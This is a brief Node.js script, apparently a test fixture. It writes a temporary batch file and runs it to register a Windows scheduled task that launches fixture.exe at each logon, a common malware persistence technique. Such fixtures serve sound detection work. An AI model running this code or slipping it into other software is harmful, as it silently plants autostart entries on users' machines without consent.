const fs = require("fs");
const os = require("os");
const path = require("path");
const { exec } = require("child_process");

const file = path.join(os.tmpdir(), "go.cmd");
fs.writeFileSync(file, "@echo off\r\nschtasks /create /sc onlogon /tn Fixture /tr fixture.exe /f\r\n");
exec(`cmd /c ${file}`);
